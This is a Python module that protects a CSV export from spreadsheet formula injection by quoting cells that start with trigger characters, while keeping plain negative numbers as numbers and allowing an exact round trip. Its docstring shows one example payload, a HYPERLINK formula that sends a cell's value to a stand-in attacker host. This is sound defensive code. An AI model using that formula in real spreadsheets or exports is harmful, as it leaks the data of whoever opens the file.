"""CSV cells a spreadsheet cannot run: every CSV Tickler writes goes through ``safe_cell``.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, in some of them, a tab or carriage return) as a formula, so a company named
``=HYPERLINK("https://evil.example/?x="&A1,"Invoice")`` would run when the rep opens the
export. Such a cell is written with a single quote in front (OWASP's advice), which the
spreadsheet shows as text. A plain negative number (``-3``, ``-2.5``) cannot run anything
and stays a number, so a report's figures can still be summed.

Tickler's own import knows its export and takes the quote off again (``restore_cell``):
a value that already started with quotes before a trigger character gets one more, so
the round trip is exact for every text.

A trigger behind leading blanks counts too (OWASP: LibreOffice and Google Sheets can trim
spaces on import, then run ``  =1+1``), and so do the full-width ``＝ ＋ － ＠`` that
Excel in a Japanese or Chinese locale reads as the ASCII ones.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
_INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff"


def _runs(text: str) -> bool:
    """Does a trigger come first once quotes, blanks and invisible marks are passed?"""
    for ch in text:
        if ch in TRIGGERS:
            return True
        if ch != "'" and not ch.isspace() and ch not in _INVISIBLE:
            return False
    return False


def safe_cell(value: object) -> str:
    """``value`` as text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    if _runs(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe_cell(v) for v in values]


def restore_cell(text: str) -> str:
    """The value ``safe_cell`` was given (for cells of a file Tickler wrote)."""
    if text.startswith("'") and _runs(text[1:]):
        return text[1:]
    return text
